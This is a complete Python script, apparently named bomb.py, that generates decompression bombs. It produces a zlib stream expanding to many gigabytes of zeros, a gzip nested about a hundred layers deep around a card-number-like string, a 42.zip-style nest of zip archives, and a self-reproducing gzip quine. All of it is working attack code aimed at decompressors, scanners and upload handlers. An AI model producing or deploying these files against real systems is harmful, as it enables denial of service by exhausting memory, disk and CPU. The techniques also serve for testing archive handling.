"""bomb.py - small files of which much would become, if one let it

usage: bomb.py zeros [GIB]    zlib: GIB (10) of zeros, 1 MiB a GiB
       bomb.py gzip DEPTH     gzip of gzip of ... of a card number
       bomb.py 42 [DEPTH]     zip of 16 zips of 16 zips ... of 16 MiB of zeros
       bomb.py quine          gzip of itself
"""
import io
import struct
import sys
import zipfile
import zlib


def zeros(gib):
    """Flushed so that it is the same bytes again for each piece."""
    piece = bytes(16 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    same = c.compress(piece) + c.flush(zlib.Z_FULL_FLUSH)
    yield b"\x78\xda"
    for _ in range(gib * 64):
        yield same
    # Adler-32 of n zeros: the low half stays 1, the high half is n.
    yield b"\x03\x00" + struct.pack(">I", (gib << 30) % 65521 << 16 | 1)


def gzips(depth):
    data = b"4539578763621486 12/27\n"
    for _ in range(depth):
        c = zlib.compressobj(9, zlib.DEFLATED, 31)
        data = c.compress(data) + c.flush()
    yield data


def forty_two(depth):
    data = bytes(16 << 20)
    for _ in range(depth):
        f = io.BytesIO()
        with zipfile.ZipFile(f, "w", zipfile.ZIP_DEFLATED) as z:
            for i in range(16):
                z.writestr(zipfile.ZipInfo(f"{i}"), data,
                           zipfile.ZIP_DEFLATED)
        data = f.getvalue()
    yield data


def bits(*pairs):
    """Values and how many bits of them, the first in the lowest bits; of
    Huffman codes the highest bit is first."""
    acc = at = 0
    for value, n in pairs:
        if n < 0:
            value, n = int(f"{value:0{-n}b}"[::-1], 2), -n
        acc |= value << at
        at += n
    assert at == 40
    return acc.to_bytes(5, "little")


def literal(data):
    return struct.pack("<BHH", 0, len(data), len(data) ^ 0xffff)


def repeat(n):
    """The last n bytes again, 17 to 20 of them, in 40 bits as literal has: a
    block of two matches with the fixed code."""
    assert 17 <= n <= 20
    match = [((1 + k - 3, -7), (8, -5), (n - 17, 3))
             for k in (n // 2, n - n // 2)]
    return bits((0, 1), (1, 2), *match[0], *match[1], (0, -7))


def quine(name, crc):
    """Every part is written twice: once to be given, once to give."""
    p = b"\x1f\x8b\x08\x08\0\0\0\0\0\3" + name + b"\0"
    size = 0
    while True:
        s = b"\1\0\0\xff\xff" + struct.pack("<II", crc, size)
        lp, ls, none = literal(p + bytes(5)), literal(s + bytes(5)), literal(b"")
        l1, l4 = literal(bytes(5)), literal(bytes(20))
        rp, r4, rs = repeat(len(p) + 5), repeat(20), repeat(len(s) + 5)
        out = b"".join((p, lp, p, lp, rp, l1, rp, l1, l1, l4, rp, l1, l1, l4,
                        r4, l4, r4, l4, r4, l4, r4, l4, r4, none, none, ls,
                        r4, none, none, ls, rs, s, rs, s))
        if size == len(out):
            return out
        size = len(out)


def itself():
    """Its checksum stands in it: a sum in which 32 bits are unknown."""
    for name in (b"r", b"ab", b"abc", b"q", b"xy", b"xyz"):
        zero = zlib.crc32(quine(name, 0))
        # Row i: which bits of the checksum make bit i, and the constant.
        column = [zlib.crc32(quine(name, 1 << i)) ^ zero ^ 1 << i
                  for i in range(32)]
        rows = [sum((column[k] >> i & 1) << k for k in range(32)) |
                (zero >> i & 1) << 32 for i in range(32)]
        done = 0
        for k in range(32):
            for i in range(done, 32):
                if rows[i] >> k & 1:
                    rows[done], rows[i] = rows[i], rows[done]
                    break
            else:
                break
            for i in range(32):
                if i != done and rows[i] >> k & 1:
                    rows[i] ^= rows[done]
            done += 1
        if done == 32:
            crc = sum((rows[k] >> 32) << k for k in range(32))
            yield quine(name, crc)
            return


n = int(sys.argv[2]) if len(sys.argv) > 2 else None
made = {"zeros": lambda: zeros(n or 10), "gzip": lambda: gzips(n or 100),
        "42": lambda: forty_two(n or 4), "quine": itself}[sys.argv[1]]()
for some in made:
    sys.stdout.buffer.write(some)
